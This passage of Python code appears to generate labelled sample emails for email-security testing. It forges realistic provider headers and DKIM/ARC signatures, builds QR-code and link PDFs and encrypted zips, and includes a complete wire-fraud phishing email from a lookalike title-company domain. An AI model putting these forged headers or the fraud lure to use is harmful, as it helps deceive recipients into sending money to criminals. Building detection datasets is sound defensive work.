    msgid = f"<{short}{r.hex('mid', 24, True)}@{mbx}>"
    arc = arc_results or f"spf=pass smtp.mailfrom={sender_domain}; dmarc=pass action=none header.from={sender_domain}; dkim=pass header.d={sender_domain}; arc=none"
    transport = [
        "ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b=" + "\n ".join(
            [r.b64("msarc", 258)[i:i + 76] for i in range(0, 344, 76)]),
        "ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;\n s=arcselector10001;\n"
        " h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-1;\n"
        f" bh={r.b64('msbh', 32)};\n b=" + "\n ".join([r.b64("msams", 258)[i:i + 76] for i in range(0, 344, 76)]),
        fold("ARC-Authentication-Results: i=1; mx.microsoft.com 1; " + arc, 77),
        dkim(r, d, selector, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck", t, "exo"),
        fold(f"Received: from {mbx} ({hx['mbx_ip']}) by {hx2['mbx']} "
             f"({hx2['mbx_ip']}) with Microsoft SMTP Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {b}; {xdate(t)}", 77),
        fold(f"Received: from {mbx} ([fe80::{r.hex('sf1', 4)}:{r.hex('sf2', 4)}:{r.hex('sf3', 4)}:{r.hex('sf4', 4)}]) by {mbx} "
             f"([fe80::{r.hex('sf1', 4)}:{r.hex('sf2', 4)}:{r.hex('sf3', 4)}:{r.hex('sf4', 4)}%{r.num('szone', 3, 7)}]) with mapi id {b}; {xdate(t)}", 77),
    ]
    tindex = "AQH" + r.b64("tindex", 21)[:25] + "=="
    fields = [
        f"Thread-Topic: {thread_topic}" if thread_topic else None,
        f"Thread-Index: {tindex}",
        None,  # Date goes here, filled by caller
        f"Message-ID: {msgid}",
        f"References: {refs}" if refs else None,
        f"In-Reply-To: {refs.split()[-1]}" if refs else None,
        f"Accept-Language: {lang}",
        f"Content-Language: {lang}",
        f"X-MS-Has-Attach: {'yes' if has_attach else ''}",
        "X-MS-TNEF-Correlator: ",
        "msip_labels: ",
    ]
    return transport, fields, helo, ip, msgid


# --------------------------------------------------------------------------- bodies

def outlook_html(body_html: str, lang: str = "EN-US") -> str:
    return (
        '<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
        'xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" '
        'xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n'
        '<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
        '<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n'
        '<style><!--\n/* Font Definitions */\n@font-face\n\t{font-family:"Cambria Math";\n\tpanose-1:2 4 5 3 5 4 6 3 2 4;}\n'
        '@font-face\n\t{font-family:Aptos;}\n/* Style Definitions */\np.MsoNormal, li.MsoNormal, div.MsoNormal\n'
        '\t{margin:0in;\n\tfont-size:12.0pt;\n\tfont-family:"Aptos",sans-serif;\n\tmso-ligatures:standardcontextual;}\n'
        'a:link, span.MsoHyperlink\n\t{mso-style-priority:99;\n\tcolor:#467886;\n\ttext-decoration:underline;}\n'
        'span.EmailStyle17\n\t{mso-style-type:personal-compose;\n\tfont-family:"Aptos",sans-serif;\n\tcolor:windowtext;}\n'
        '.MsoChpDefault\n\t{mso-style-type:export-only;\n\tfont-size:10.0pt;}\n'
        '@page WordSection1\n\t{size:8.5in 11.0in;\n\tmargin:1.0in 1.0in 1.0in 1.0in;}\n'
        'div.WordSection1\n\t{page:WordSection1;}\n--></style>\n</head>\n'
        f'<body lang="{lang}" link="#467886" vlink="#96607D" style="word-wrap:break-word">\n'
        f'<div class="WordSection1">\n{body_html}\n</div>\n</body>\n</html>\n'
    )


def mso_paras(paragraphs: list[str]) -> str:
    """Outlook paragraphs: each string becomes a MsoNormal paragraph; '' is an empty line."""
    out = []
    for p in paragraphs:
        if p == "":
            out.append('<p class="MsoNormal"><o:p>&nbsp;</o:p></p>')
        else:
            out.append(f'<p class="MsoNormal">{p}<o:p></o:p></p>')
    return "\n".join(out)


def gmail_html(paragraphs: list[str], signature: str = "") -> str:
    inner = "".join(f"<div>{p}</div>" if p else "<div><br></div>" for p in paragraphs)
    sig = (f'<br clear="all"><div><br></div><span class="gmail_signature_prefix">-- </span><br>'
           f'<div dir="ltr" class="gmail_signature" data-smartmail="gmail_signature"><div dir="ltr">{signature}</div></div>') if signature else ""
    return f'<div dir="ltr">{inner}{sig}</div>\n'


def alt(plain: str, html: str, boundary: str, plain_enc: str = "quoted-printable", html_enc: str = "quoted-printable") -> Multi:
    return Multi("alternative", boundary, [text(plain, "plain", plain_enc), text(html, "html", html_enc)])


def gboundary(r: R, label: str) -> str:
    return f"000000000000{r.hex(label, 16)}"


def oboundary(r: R, label: str, n: str = "000") -> str:
    return f"_{n}_{r.hex(label, 40, True)}_"


def strip_tags(html: str) -> str:
    import re
    s = re.sub(r"<(script|style)[^>]*>.*?</\1>", "", html, flags=re.S | re.I)
    s = re.sub(r"<br\s*/?>", "\n", s, flags=re.I)
    s = re.sub(r"</(p|div|tr|h\d|li)>", "\n", s, flags=re.I)
    s = re.sub(r"<[^>]+>", "", s)
    import html as h
    s = h.unescape(s)
    lines = [ln.strip() for ln in s.split("\n")]
    out, blank = [], False
    for ln in lines:
        if not ln:
            if not blank and out:
                out.append("")
            blank = True
        else:
            out.append(ln)
            blank = False
    return "\n".join(out).strip() + "\n"


def hdr_encode(s: str) -> str:
    """RFC 2047 encode a header value if it is not ASCII (UTF-8, B encoding as most clients do)."""
    try:
        s.encode("ascii")
        return s
    except UnicodeEncodeError:
        return "=?UTF-8?B?" + base64.b64encode(s.encode()).decode() + "?="


def hdr_encode_q(s: str) -> str:
    try:
        s.encode("ascii")
        return s
    except UnicodeEncodeError:
        out = []
        for ch in s.encode():
            c = chr(ch)
            if c.isalnum() or c in "!*+-/":
                out.append(c)
            elif c == " ":
                out.append("_")
            else:
                out.append(f"={ch:02X}")
        return "=?utf-8?Q?" + "".join(out) + "?="


# --------------------------------------------------------------------------- attachments

def zipcrypto(members: list[tuple[str, bytes]], password: bytes, r: R) -> bytes:
    """A zip whose members are encrypted with traditional PKWARE encryption (what '7-Zip, ZipCrypto' writes)."""
    table = []
    for i in range(256):
        c = i
        for _ in range(8):
            c = (c >> 1) ^ 0xEDB88320 if c & 1 else c >> 1
        table.append(c)

    def crc_byte(crc, b):
        return table[(crc ^ b) & 0xFF] ^ (crc >> 8)

    out = bytearray()
    central = bytearray()
    dostime = (9 << 11) | (30 << 5)
    dosdate = ((2025 - 1980) << 9) | (3 << 5) | 3
    for index, (name, data) in enumerate(members):
        k = [0x12345678, 0x23456789, 0x34567890]

        def update(c):
            k[0] = crc_byte(k[0], c)
            k[1] = (k[1] + (k[0] & 0xFF)) & 0xFFFFFFFF
            k[1] = (k[1] * 134775813 + 1) & 0xFFFFFFFF
            k[2] = crc_byte(k[2], k[1] >> 24)

        def stream_byte():
            temp = (k[2] | 2) & 0xFFFF
            return ((temp * (temp ^ 1)) >> 8) & 0xFF

        for ch in password:
            update(ch)
        crc = binascii.crc32(data) & 0xFFFFFFFF
        comp = zlib.compressobj(9, zlib.DEFLATED, -15)
        deflated = comp.compress(data) + comp.flush()
        header = bytearray(r.raw(f"zc{index}", 11)) + bytes([crc >> 24])
        plain = bytes(header) + deflated
        enc = bytearray()
        for p in plain:
            c = p ^ stream_byte()
            update(p)
            enc.append(c)
        fname = name.encode()
        local = struct.pack("<4sHHHHHLLLHH", b"PK\x03\x04", 20, 0x0001, 8, dostime, dosdate, crc, len(enc), len(data), len(fname), 0)
        offset = len(out)
        out += local + fname + enc
        central += struct.pack("<4sHHHHHHLLLHHHHHLL", b"PK\x01\x02", 63, 20, 0x0001, 8, dostime, dosdate, crc, len(enc),
                               len(data), len(fname), 0, 0, 0, 0, 0x20, offset) + fname
    cd_offset = len(out)
    out += central
    out += struct.pack("<4sHHHHLLH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), cd_offset, 0)
    return bytes(out)


def qr_pdf(lines_above: list[str], url: str, lines_below: list[str], title: str, producer: str) -> bytes:
    """A one-page PDF with text and a QR code image (no link annotation): what 'quishing' PDFs look like."""
    import segno

    qr = segno.make(url, error="m", micro=False)
    matrix = [list(row) for row in qr.matrix]
    border, scale = 4, 4
    size = (len(matrix) + 2 * border) * scale
    rows = []
    for y in range(size):
        my = y // scale - border
        row = bytearray()
        for x in range(size):
            mx = x // scale - border
            dark = 0 <= my < len(matrix) and 0 <= mx < len(matrix) and matrix[my][mx]
            row.append(0 if dark else 255)
        rows.append(bytes(row))
    image = zlib.compress(b"".join(rows), 9)
    content = ["BT", "/F1 15 Tf", "18 TL", "56 780 Td"]
    for i, ln in enumerate(lines_above):
        if i == 1:
            content.append("/F1 11 Tf 14 TL")
        content.append(f"({files._pdf_escape(ln)}) Tj T*")
    content.append("ET")
    content += ["q", "180 0 0 180 207 430 cm", "/Im1 Do", "Q"]
    content += ["BT", "/F1 10 Tf", "13 TL", "56 405 Td"]
    for ln in lines_below:
        content.append(f"({files._pdf_escape(ln)}) Tj T*")
    content.append("ET")
    stream = "\n".join(content).encode("latin-1")
    objects = files.image_page(stream, image, size, size, "FlateDecode")
    objects.append(f"<< /Title ({files._pdf_escape(title)}) /Producer ({files._pdf_escape(producer)}) "
                   f"/CreationDate (D:20250303093000-06'00') >>".encode())
    return files.pdf_file(objects, 7)


def text_pdf(lines: list[str], title: str, producer: str, link: str | None = None, rect=(56, 300, 300, 336),
             button: str = "VIEW DOCUMENT", date: str = "D:20250101090000Z") -> bytes:
    """A one-page text PDF with an optional link button, with chosen producer and date."""
    content = ["BT", "/F1 11 Tf", "14 TL", "56 780 Td"]
    for ln in lines:
        content.append(f"({files._pdf_escape(ln)}) Tj T*")
    content.append("ET")
    if link:
        x0, y0, x1, y1 = rect
        content += ["0.1 0.3 0.7 rg", f"{x0} {y0} {x1 - x0} {y1 - y0} re f",
                    "BT /F1 13 Tf 1 1 1 rg", f"{x0 + 18} {y0 + 12} Td ({files._pdf_escape(button)}) Tj ET"]
    stream = "\n".join(content).encode("latin-1")
    annots = " /Annots [6 0 R]" if link else ""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> "
        f"/Contents 5 0 R{annots} >>".encode(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
    ]
    if link:
        x0, y0, x1, y1 = rect
        objects.append(f"<< /Type /Annot /Subtype /Link /Rect [{x0} {y0} {x1} {y1}] /Border [0 0 0] "
                       f"/A << /S /URI /URI ({files._pdf_escape(link)}) >> >>".encode())
    info = len(objects) + 1
    objects.append(f"<< /Title ({files._pdf_escape(title)}) /Producer ({files._pdf_escape(producer)}) "
                   f"/CreationDate ({date}) >>".encode())
    return files.pdf_file(objects, info)


def png_logo(seed: int, w: int = 120, h: int = 40, rgb=(30, 90, 160)) -> bytes:
    """A small flat PNG (a logo block) for inline images."""
    def chunk_png(kind, data):
        c = struct.pack(">I", len(data)) + kind + data
        return c + struct.pack(">I", binascii.crc32(kind + data) & 0xFFFFFFFF)
    raw = b""
    for y in range(h):
        row = bytearray([0])
        for x in range(w):
            edge = (x + seed) % 37 < 3 or y < 2 or y >= h - 2
            row += bytes((255, 255, 255) if edge else rgb)
        raw += bytes(row)
    return (b"\x89PNG\r\n\x1a\n" + chunk_png(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk_png(b"IDAT", zlib.compress(raw, 9)) + chunk_png(b"IEND", b""))


# --------------------------------------------------------------------------- registry and output

SAMPLES = []


def sample(fn):
    SAMPLES.append(fn)
    return fn


def assemble(headers: list[str], body) -> bytes:
    """Join header lines (each possibly folded already) and the MIME body."""
    hs = "\n".join(h for h in headers if h is not None)
    return message(hs, body)


def assemble_split(headers: list[str], body, after: list[str]) -> bytes:
    """Headers, then the body's own MIME headers, then ``after`` (Exchange's stamps), then the body."""
    from mime import render_part

    part = render_part(body)
    ph, pb = part.split(b"\n\n", 1)
    lines = [h for h in headers if h is not None]
    has_mv = any(h.lower().startswith("mime-version:") for h in lines)
    out = "\n".join(lines).encode("utf-8") + b"\n" + ph
    if not has_mv:
        out += b"\nMIME-Version: 1.0"
    if after:
        out += b"\n" + "\n".join(after).encode("utf-8")
    return out + b"\n\n" + pb


def AU(mailfrom: str, ip: str, spf: str = "pass", dkim=(), dmarc: str | None = "pass",
       policy: str = "p=NONE sp=NONE dis=NONE", from_dom: str | None = None, compauth=None, action: str | None = None):
    """The authentication facts of one delivery, written out by whichever platform receives it."""
    return dict(mailfrom=mailfrom, ip=ip, spf=spf, dkim=list(dkim), dmarc=dmarc, policy=policy,
                from_dom=from_dom or mailfrom.split("@")[-1], compauth=compauth, action=action)


def _x_auth(a: dict) -> dict:
    mf_dom = a["mailfrom"].split("@")[-1]
    dmarc = a["dmarc"] or "none"
    action = a["action"]
    if action is None:
        if dmarc == "fail":
            action = {"REJECT": "oreject", "QUARANTINE": "quarantine"}.get(a["policy"].split()[0][2:], "none")
        else:
            action = "none"
    comp = a["compauth"]
    if comp is None:
        if dmarc == "pass":
            comp = ("pass", "100")
        elif dmarc == "fail":
            comp = ("fail", "000") if action != "none" else ("fail", "001")
        elif a["spf"] == "pass" or any(d[2] == "pass" for d in a["dkim"]):
            comp = ("softpass", "201")
        else:
            comp = ("fail", "001")
    return dict(spf=(a["spf"], mf_dom, a["ip"]), dkim=[tuple(d[:3]) for d in a["dkim"]],
                dmarc=(dmarc, action, a["from_dom"]), compauth=comp)


def _g_auth(a: dict, arc: str | None) -> dict:
    pol = a["policy"]
    return dict(dkim=[tuple(d) for d in a["dkim"]], spf=(a["spf"], a["mailfrom"], a["ip"]),
                dmarc=(a["dmarc"], pol, a["from_dom"]) if a["dmarc"] else None, arc=arc)


def deliver(r: R, client: Client, rcpt: str, t: datetime, helo: str, ip: str, a: dict, sender: list[str],
            headers: list[str], body, verdict: dict | None = None, ptr: str | None = None, ctry: str = "US",
            lang: str = "en", gt: bool = False, ms_arc: bool = False, rdns: str | None = None) -> bytes:
    """The message as the client's platform stored it."""
    if client.provider == "g":
        arc = None
        if ms_arc:
            d = a["from_dom"]
            dk = a["dkim"][0][0] if a["dkim"] else d
            arc = (f"arc=pass (i=1 spf=pass spfdomain={a['mailfrom'].split('@')[-1]} dkim=pass dkdomain={dk} "
                   f"dmarc={'pass' if a['dmarc'] == 'pass' else 'none'} fromdomain={d})")
        top = gmail_in(r, rcpt, t, helo, ip, _g_auth(a, arc), gt, 2 if ms_arc else 1, rdns)
        return assemble_split(top + list(sender) + list(headers), body, [])
    top, bottom = exo_in(r, client, t, helo, ip, _x_auth(a), verdict, ptr, ctry, lang)
    return assemble_split(top + list(sender) + list(headers), body, [f"Return-Path: {a['mailfrom']}"] + bottom)


# --------------------------------------------------------------------------- sending systems

def postfix_lines(r: R, t: datetime, host: str, client_ip: str, rcpt: str, dkim_d: str | None, selector: str = "default",
                  auth_user: str | None = None, h: str = "From:Reply-To:To:Subject:Date:From") -> list[str]:
    """A Postfix submission hop on an attacker's or small host's server, with OpenDKIM."""
    qid = r.alnum("qid", 11, "BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz0123456789")
    lines = []
    if dkim_d:
        lines.append(f"DKIM-Filter: OpenDKIM Filter v2.11.0 {host} 4{qid}")
        lines.append(dkim(r, dkim_d, selector, h, t, "generic", c="relaxed/simple"))
    authline = f"\n\t(Authenticated sender: {auth_user})" if auth_user else ""
    lines.append(f"Received: from [{client_ip}] (unknown [{client_ip}]){authline}\n\tby {host} (Postfix) with ESMTPSA id 4{qid}\n"
                 f"\tfor <{rcpt}>; {format_datetime(t.astimezone(UTC))}")
    return lines


def ses_lines(r: R, t: datetime, dkim_domains: list[tuple[str, str]], region: str = "us-east-1") -> tuple[list[str], str, str, str]:
    """Amazon SES: DKIM by the customer and by amazonses.com, Feedback-ID, X-SES-Outgoing."""
    ip = f"54.240.{r.num('sesip', 0, 15) + 8}.{r.num('sesip2', 10, 250)}"
    helo = f"a{ip.split('.')[2]}-{ip.split('.')[3]}.smtp-out.amazonses.com"
    ses_sel = {"us-east-1": "224i4yxa5dv7c2xz3womw6peuasteono", "us-west-2": "7v7vs6w47njt4pimodk5mmttbegzsi6n",
               "eu-west-1": "shh3fegwg5fppqsuzphvschd53n6ihuv"}[region]
    lines = [dkim(r, d, sel, "Subject:From:To:Date:MIME-Version:Content-Type:Message-ID", t, "generic", label="c")
             for d, sel in dkim_domains]
    lines.append(dkim(r, "amazonses.com", ses_sel, "Subject:From:To:Date:MIME-Version:Content-Type:Message-ID:Feedback-ID", t,
                      "generic", label="ses"))
    mid_pref = f"0100{r.hex('sesmid', 12)}"
    msgid = f"<{mid_pref}-{r.guid('sesguid')}-000000@email.amazonses.com>"
    lines_after = [f"Feedback-ID: ::1.{region}.{r.b64('fb', 33)[:44]}=:AmazonSES",
                   f"X-SES-Outgoing: {t:%Y.%m.%d}-{ip}"]
    return lines, helo, ip, msgid, lines_after, mid_pref


def sendgrid_lines(r: R, t: datetime, dkim_d: str, sg_sel: str = "s1") -> tuple[list[str], str, str, str]:
    ip = f"{['149.72', '167.89', '168.245', '159.183'][r.num('sgn', 0, 3)]}.{r.num('sg3', 1, 254)}.{r.num('sg4', 1, 254)}"
    helo = f"o{r.num('sgo', 1, 9)}.ptr{r.num('sgptr', 1000, 9999)}.{dkim_d}"
    pod = f"geopod-ismtpd-{r.num('pod', 1, 40)}"
    msgid = f"<{r.b64url('sgmid', 16)}@{pod}>"
    lines = [
        dkim(r, dkim_d, sg_sel, "content-type:from:mime-version:subject:reply-to:x-feedback-id:to:cc:content-type:from:subject:to", t, "generic"),
        f"Received: by filterdrecv-{r.hex('fd', 10)}-{r.alnum('fd2', 5)} with SMTP id filterdrecv-{r.hex('fd', 10)}-{r.alnum('fd2', 5)}-1-"
        f"{r.hex('fd3', 8, True)}-{r.num('fd4', 1, 40)}\n\t{format_datetime(t.astimezone(UTC))[5:-6]}.{r.num('fd5', 100000000, 999999999)} +0000 UTC m=+{r.num('fd6', 1000, 99999)}.{r.num('fd7', 100000000, 999999999)}",
        f"Received: from {r.alnum('sgh', 8)} (unknown)\n\tby {pod} (SG) with HTTP\n\tid {r.b64url('sgid', 16)}\n\t{format_datetime(t.astimezone(UTC))[5:-6]}.{r.num('sg8', 100, 999)} +0000 (UTC)",
    ]
    return lines, helo, ip, msgid


def sendgrid_after(r: R) -> list[str]:
    return [f"X-SG-EID: \n =?us-ascii?Q?{r.b64('eid', 60).replace('=', '=3D')}?=",
            f"X-SG-ID: \n =?us-ascii?Q?{r.b64('sgid2', 48).replace('=', '=3D')}?="]


def mailgun_lines(r: R, t: datetime, domain: str) -> tuple[list[str], str, str, str]:
    ip = f"159.135.{r.num('mg3', 224, 235)}.{r.num('mg4', 1, 254)}"
    helo = f"m{ip.split('.')[2]}-{ip.split('.')[3]}.mailgun.net"
    msgid = f"<{t:%Y%m%d%H%M%S}.{r.hex('mgmid', 16)}@{domain}>"
    lines = [
        dkim(r, domain, "mx", "Content-Transfer-Encoding: Content-Type: Mime-Version: Subject: Subject: From: From: To: To: Message-Id: Date: Sender: Sender".replace(": ", ":"), t, "generic",
             c="relaxed/relaxed", extra=f" q=dns/txt;"),
        f"X-Mailgun-Sid: WyI{r.b64url('mgsid', 30)}",
        f"Received: by {r.hex('mgh', 16)} with HTTP id {r.hex('mgid', 24)}; {format_datetime(t.astimezone(UTC))[:-6]}",
        f"Sender: bounce@{domain}",
    ]
    return lines, helo, ip, msgid


def google_service_lines(r: R, t: datetime) -> list[str]:
    """What Google's own notification senders (Drive, Forms, Calendar, Looker Studio) put above From."""
    return [
        dkim(r, "google.com", "20230601", "cc:to:from:subject:date:message-id:reply-to:mime-version:from:to:cc\n         :subject:date:message-id:reply-to", t, "google"),
        dkim(r, "1e100.net", "20230601", "x-gm-message-state:cc:to:from:subject:date:message-id:reply-to\n         :mime-version:x-gm-message-state:from:to:cc:subject:date:message-id\n         :reply-to",
             t, "google", label="x").replace("DKIM-Signature", "X-Google-DKIM-Signature"),
        f"X-Gm-Message-State: AOJu0Y{r.b64('gms', 60)[:74]}\n\t{r.b64('gms2', 40)[:50]}",
        f"X-Google-Smtp-Source: AGHT+I{r.b64('gss', 66)[:82]}",
        "MIME-Version: 1.0",
        f"X-Received: by {g_v6(r, 'gsx')} with SMTP id\n {g_smtpid(r, 'gsx', t)}; {gdate(t)}",
    ]


def google_service_route(r: R, client: Client) -> tuple[str, str, bool]:
    """Where a Google-originated message enters the client's platform."""
    if client.provider == "g":
        n = r.num("sor", 41, 73)
        return f"mail-sor-f{n}.google.com", f"209.85.220.{n}", True
    h, ip = google_out_host(r)
    return h, ip, False


def mailchimp_lines(r: R, t: datetime, from_domain: str, dc: str = "us21"):
    n = r.num("mcn", 100, 250)
    atl = r.num("mcatl", 10, 190)
    ip = f"198.2.{r.num('mc3', 128, 191)}.{n}"
    helo = f"mail{n}.atl{atl}.mcdlv.net"
    uid = r.hex("mcu", 25)
    lines = [
        dkim(r, from_domain, "k2", "Subject:From:Reply-To:To:Date:Message-ID:List-ID:List-Unsubscribe:List-Unsubscribe-Post:Content-Type:MIME-Version:CC", t, "generic", label="k2"),
        dkim(r, "mcdlv.net", "k3", "Subject:From:Reply-To:To:Date:Message-ID:List-ID:List-Unsubscribe:List-Unsubscribe-Post:Content-Type:MIME-Version:CC", t, "generic", label="k3"),
        f"Received: from localhost (localhost [127.0.0.1])\n\tby {helo} (Postfix) with ESMTP id 4{r.alnum('mcq', 10, 'BCDFGHJKLMNPQRSTVWXYZ0123456789')}\n\tfor <{{rcpt}}>; {format_datetime(t.astimezone(UTC))}",
    ]
    return lines, helo, ip, uid, dc


# Bank-holiday-free business hours helper is not needed; times are written explicitly per sample.


def S(kind: str, slug: str) -> R:
    return R(f"b14-{kind}-{slug}")


def done(category: str, kind: str, slug: str, desc: str, data: bytes) -> dict:
    return dict(category=category, name=f"b14-{kind}-{slug}", desc=desc, data=data)


def outlook_msg(r: R, paragraphs: list[str], quoted_html: str = "", quoted_plain: str = "", lang: str = "EN-US",
                plain_override: str | None = None, label: str = "alt") -> Multi:
    """Outlook's text/plain + text/html alternative of a message written in Outlook."""
    html = outlook_html(mso_paras(paragraphs) + quoted_html, lang)
    plain = plain_override or (strip_tags("<br>".join(p if p else "" for p in paragraphs)) + quoted_plain)
    return Multi("alternative", oboundary(r, label), [text(plain), text(html, "html")])


def quote_outlook(frm: str, sent: str, to: str, subject: str, paragraphs: list[str], cc: str = "") -> tuple[str, str]:
    """An Outlook reply header block and the quoted message, as HTML and as plain text."""
    cc_html = f"<br>\n<b>Cc:</b> {cc}" if cc else ""
    html = ('\n<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0in 0in 0in">\n'
            f'<p class="MsoNormal"><b><span style="font-size:11.0pt;font-family:&quot;Calibri&quot;,sans-serif">From:</span></b>'
            f'<span style="font-size:11.0pt;font-family:&quot;Calibri&quot;,sans-serif"> {frm}<br>\n<b>Sent:</b> {sent}<br>\n'
            f'<b>To:</b> {to}{cc_html}<br>\n<b>Subject:</b> {subject}<o:p></o:p></span></p>\n</div>\n'
            + mso_paras([""] + paragraphs))
    plain = (f"\n\nFrom: {strip_tags(frm).strip()}\nSent: {sent}\nTo: {strip_tags(to).strip()}\n"
             + (f"Cc: {strip_tags(cc).strip()}\n" if cc else "") + f"Subject: {subject}\n\n"
             + strip_tags("<br>".join(paragraphs)))
    return html, plain


# =========================================================================== attacks: real estate and title

@sample
def wire_lookalike_title():
    kind, slug = "phish", "wire-lookalike-title-cedar"
    r = S(kind, slug)
    c = CLIENTS["cedar"]
    t = T(2024, 4, 16, 21, 12, 33)
    rcpt = "jake@cedarhollowrealty.com"
    frm_dom = "summitcrest-title.com"
    transport, fields, helo, ip, msgid = exo_sender(
        r, t, frm_dom, "nam", True, dkim_d="summitcrestitle.onmicrosoft.com", refs=f"<CAJk{r.mixed('irt', 38)}@mail.gmail.com>",
        selector="selector1-summitcrestitle-onmicrosoft-com", thread_topic="1418 W Sandpiper Ln - Closing 4/19 - Buyer funds",
        arc_results=f"spf=pass smtp.mailfrom={frm_dom}; dmarc=none action=none header.from={frm_dom}; dkim=none (message not signed); arc=none")
    sig = ['<b><span style="color:#1F3864">Janelle Price</span></b>', '<span style="font-size:10.0pt;color:#595959">Escrow Officer | Summit Crest Title &amp; Escrow</span>',
           '<span style="font-size:10.0pt;color:#595959">1020 W Main St, Suite 300 | Boise, ID 83702</span>',
           '<span style="font-size:10.0pt;color:#595959">O: (208) 342-7710 | D: (208) 342-7734</span>',
           '<i><span style="font-size:8.0pt;color:#C00000">WIRE FRAUD ALERT: Summit Crest Title will never change wiring instructions via email. Please call to verify.</span></i>']
    paras = ["Hi Jake,", "", "Yes the amount is correct ($84,216.40).",
             "", "Please note our wire instructions have been updated as our main escrow account is currently undergoing a quarterly "
             "reconciliation audit, so all incoming funds for closings this week are being received in our secondary escrow account. "
             "Updated instructions are attached, please forward to the Hendersons today so the funds arrive before Thursday.",
             "", "I'm in and out of signings the rest of the afternoon, so email is the best way to reach me.",
             "", "Thank you,", ""] + sig
    qh, qp = quote_outlook("Jake Whitlock &lt;jake@cedarhollowrealty.com&gt;", "Tuesday, April 16, 2024 2:41 PM",
                           "Janelle Price &lt;jprice@summitcresttitle.com&gt;", "1418 W Sandpiper Ln - Closing 4/19 - Buyer funds",
                           ["Hi Janelle,", "", "Buyers are asking about their cash to close. Is it still $84,216.40 per the final CD? They want to send it tomorrow.",
                            "", "Thanks!", "Jake Whitlock | Cedar Hollow Realty | (208) 914-2266"])
    alt_part = outlook_msg(r, paras, qh, qp)
    pdf = text_pdf(["SUMMIT CREST TITLE & ESCROW", "1020 W Main St, Suite 300, Boise, ID 83702", "",
                    "WIRING INSTRUCTIONS - UPDATED 04/16/2024", "",
                    "File No.: SCT-24-01187", "Property: 1418 W Sandpiper Ln, Boise, ID 83709", "Buyer(s): Daniel & Kristin Henderson", "",
                    "Beneficiary Bank: Horizon Pacific Bank, N.A.", "Bank Address: 4410 N Federal Way, Garden City, ID 83714",
                    "ABA Routing No.: 124103812", "Account Name: SCT Escrow Services LLC", "Account No.: 7712094418",
                    "Reference: SCT-24-01187 / Henderson", "",
                    "Funds must be received 24 hours prior to closing. Please do not send funds via ACH.",
                    "Contact: Janelle Price, Escrow Officer - jprice@summitcrest-title.com"],
                   "Wire Instructions", "Microsoft: Print To PDF", date="D:20240416144512-06'00'")
    body = Multi("mixed", oboundary(r, "mix", "004"), [alt_part, attachment("application/pdf", "Wire Instructions - SCT-24-01187.pdf", pdf)])
    headers = [f'From: Janelle Price <jprice@{frm_dom}>', f"To: Jake Whitlock <{rcpt}>",
               "Subject: RE: 1418 W Sandpiper Ln - Closing 4/19 - Buyer funds"] + xf(fields, t, "America/Boise")
    a = AU(f"jprice@{frm_dom}", ip, "pass", [("summitcrestitle.onmicrosoft.com", "selector1-summitcrestitle-onmicrosoft-com", "pass")],
           None, from_dom=frm_dom)
    data = deliver(r, c, rcpt, t + timedelta(seconds=2), helo, ip, a, transport, headers, body, ms_arc=True,
                   rdns=f"mail-{helo.split('-')[1].lower()}{helo.split('-')[0].lower()}on2{r.num('on2', 100, 999)}.outbound.protection.outlook.com")
    return done("phishing", kind, slug,
                "Closing-week reply from a registered lookalike of the title company (summitcrest-title.com, its own Microsoft 365 "
                "tenant passing SPF) attaching 'updated' wire instructions to a new account, no link, with the real officer's signature copied.",
                data)


def xf(fields, t, tz):
    """Outlook's field list with the Date slot filled and empty slots dropped."""
    out = []
    for i, f in enumerate(fields):
        if i == 2:
            out.append(f"Date: {rfc(t, tz)}")
        elif f is not None:
            out.append(f)
    return out



def gq(attr: str, paragraphs: list[str]) -> tuple[str, str]:
    """A Gmail quote block ('On ... wrote:') as HTML and as plain text."""
    inner = "".join(f"<div>{p}</div>" if p else "<div><br></div>" for p in paragraphs)
    html = (f'<br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">{attr}<br></div>'
            f'<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">'
            f'<div dir="ltr">{inner}</div></blockquote></div>')
    plain = "\n\n" + strip_tags(attr).strip() + "\n\n" + "".join("> " + ln + "\n" if ln else ">\n" for ln in strip_tags("<br>".join(paragraphs)).rstrip("\n").split("\n"))
    return html, plain


def gmail_alt(r: R, paragraphs: list[str], signature_html: str = "", quote: tuple[str, str] | None = None,
              label: str = "galt") -> Multi:
    html = gmail_html(paragraphs, signature_html)
    plain = strip_tags("<br>".join(paragraphs))
    if signature_html:
        plain += "\n-- \n" + strip_tags(signature_html)
    if quote:
        html = html.rstrip("\n")[:-len("</div>")] + quote[0] + "</div>\n"
        plain = plain.rstrip("\n") + quote[1]
    return Multi("alternative", gboundary(r, label), [text(plain), text(html, "html")])


def send_gmail(r: R, c: Client, rcpt: str, t: datetime, mailfrom: str, from_hdr: str, to_hdr: str, subject: str, body,
               tz: str, dkim_d: str | None = None, selector: str | None = None, policy: str = "p=NONE sp=QUARANTINE dis=NONE",
